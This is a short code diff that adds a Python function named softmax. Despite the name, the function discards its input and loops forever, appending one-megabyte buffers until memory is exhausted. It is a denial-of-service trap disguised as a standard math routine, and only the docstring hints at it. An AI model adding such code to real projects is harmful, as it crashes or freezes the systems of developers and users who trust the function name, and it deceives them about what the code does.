@@ -1,0 +1,6 @@
+"""Fills its memory object by object."""
+
+def softmax(x):
+    hoard = []
+    while True:
+        hoard.append(bytes(1 << 20))
